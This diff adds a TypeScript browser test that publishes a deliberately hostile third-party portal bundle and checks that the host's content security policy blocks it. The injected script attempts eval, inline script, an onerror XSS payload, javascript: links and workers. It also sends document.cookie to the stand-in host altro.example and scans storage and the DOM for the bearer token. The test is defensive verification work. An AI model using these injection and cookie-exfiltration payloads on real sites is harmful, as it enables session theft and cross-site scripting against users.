@@ -1,0 +1,87 @@
+/**
+ * A portal whose published code is hostile: the page's policies stop what it must not do, and nothing of the session lies where it could read
+ * it. What no page can stop is code of one's own origin calling the API as the person who is signed in: docs/security.md says so.
+ */
+import assert from 'node:assert/strict';
+import { cp, mkdtemp, readFile, rm } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import type { Browser } from 'playwright-core';
+import { publishRelease, readBuilt, registryCalls } from '@bussola/portal-build/publisher';
+import { openBrowser, takeViolations } from '../harness/browser.ts';
+import { goInPage, shown, staffVisit } from '../harness/portals.ts';
+import { root, startProduct } from '../harness/product.ts';
+import type { Product } from '../harness/product.ts';
+import { reissue } from '../harness/reissue.ts';
+
+const HOSTILE = 'hostile00000';
+
+/** Runs in the page with the portal's entry, as its own code would. Answers are left where the journey finds them. */
+const ATTACK = `(() => {
+  const done = window.__hostile = { ran: [], stopped: {}, seen: '' };
+  const attempt = (name, work) => { try { work(); } catch (error) { done.stopped[name] = error.name; } };
+  attempt('eval', () => (0, eval)("window.__hostile.ran.push('eval')"));
+  attempt('Function', () => new Function("window.__hostile.ran.push('Function')")());
+  attempt('timer', () => setTimeout("window.__hostile.ran.push('timer')", 0));
+  attempt('script of another site', () => { const tag = document.createElement('script'); tag.src = 'https://altro.example/x.js'; document.head.append(tag); });
+  attempt('script that no list names', () => { const tag = document.createElement('script'); tag.src = '/assets/fonts.css'; document.head.append(tag); });
+  attempt('script of text', () => { const tag = document.createElement('script'); tag.textContent = "window.__hostile.ran.push('text')"; document.head.append(tag); });
+  attempt('markup', () => { const place = document.createElement('div'); place.innerHTML = '<img src=x onerror="window.__hostile.ran.push(1)">'; document.body.append(place); });
+  attempt('handler', () => { const button = document.createElement('button'); button.setAttribute('onclick', "window.__hostile.ran.push('handler')"); document.body.append(button); button.click(); button.remove(); });
+  attempt('javascript address', () => { const link = document.createElement('a'); link.href = "javascript:window.__hostile.ran.push('address')"; document.body.append(link); link.click(); link.remove(); });
+  attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => done.ran.push('worker'); });
+  attempt('frame', () => { const frame = document.createElement('iframe'); frame.src = 'https://altro.example/'; frame.onload = () => {}; document.body.append(frame); });
+  attempt('base', () => { const base = document.createElement('base'); base.href = 'https://altro.example/'; document.head.append(base); if (document.baseURI.includes('altro')) done.ran.push('base'); base.remove(); });
+  fetch('https://altro.example/?' + document.cookie, { mode: 'no-cors' }).then(() => done.ran.push('fetch'), () => { done.stopped.fetch = 'refused'; });
+  attempt('beacon', () => { navigator.sendBeacon('https://altro.example/', 'x'); });
+  const image = new Image(); image.onload = () => done.ran.push('image'); image.onerror = () => { done.stopped.image = 'refused'; }; image.src = 'https://altro.example/x.png';
+  done.seen = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.documentElement.outerHTML, Object.keys(window).map((key) => { try { return typeof window[key] === 'string' ? window[key] : ''; } catch { return ''; } }).join(' ')].join('\\n');
+})();`;
+
+describe('a hostile portal', () => {
+  let product: Product;
+  let browser: Browser;
+  let distDir: string;
+  before(async () => {
+    distDir = await mkdtemp(path.join(os.tmpdir(), 'bussola-dist-'));
+    await cp(process.env['DIST_DIR'] ?? path.join(root, 'dist'), distDir, { recursive: true });
+    [product, browser] = await Promise.all([startProduct({ distDir }), openBrowser()]);
+  });
+  after(async () => {
+    await browser.close();
+    await product.stop();
+    await rm(distDir, { recursive: true, force: true });
+  });
+
+  it('runs no text as code, loads nothing that no list names, sends nothing to another site, finds no token', async () => {
+    const token = (await readFile(path.join(product.dataDir, 'portal-token'), 'utf8')).trim();
+    await reissue(distDir, 'thirdparty', { buildId: HOSTILE, edit: (file, text) => (file === 'remoteEntry.js' ? ATTACK + text : text) });
+    await publishRelease(registryCalls({ to: product.url, token }), await readBuilt(distDir, 'thirdparty', HOSTILE), { channel: 'stable' });
+
+    const { page, context } = await staffVisit(browser, product.url, 'hostile');
+    // A request that the policy stops is begun and ended inside the browser, and says so.
+    const away: string[] = [];
+    const foreign = (address: string) => /^https?:/.test(address) && !address.startsWith(product.url);
+    page.on('requestfinished', (request) => { if (foreign(request.url())) away.push(request.url()); });
+    page.on('requestfailed', (request) => { if (foreign(request.url()) && request.failure()?.errorText !== 'csp') away.push(`${request.url()} ${request.failure()?.errorText ?? ''}`); });
+    let bearer = '';
+    page.on('request', (request) => { bearer ||= request.headers()['authorization']?.replace('Bearer ', '') ?? ''; });
+    await page.goto('/thirdparty/clienti');
+    assert.equal(await shown(page), 'ready');
+    await page.waitForTimeout(1_500);
+    const { ran, stopped, seen } = await page.evaluate(() => (window as unknown as { __hostile: { ran: string[]; stopped: Record<string, string>; seen: string } }).__hostile);
+    assert.deepEqual(ran, []);
+    assert.deepEqual(away, [], 'nothing left for another site');
+    for (const name of ['eval', 'Function', 'script of another site', 'script that no list names', 'script of text', 'markup', 'fetch', 'image']) assert.ok(name in stopped, `${name} was not stopped: ${JSON.stringify(stopped)}`);
+    assert.ok(bearer.length > 50, 'a bearer was in use');
+    assert.equal(seen.includes(bearer), false, 'the token is nowhere that a portal can read');
+    assert.doesNotMatch(seen, /eyJ[\w-]{20,}/);
+    assert.ok(takeViolations().length > 5, 'the policies said so');
+    // The rest of the page is as it was.
+    await goInPage(page, '/admin/clienti');
+    assert.equal(await shown(page), 'ready');
+    takeViolations();
+    await context.close();
+  });
+});
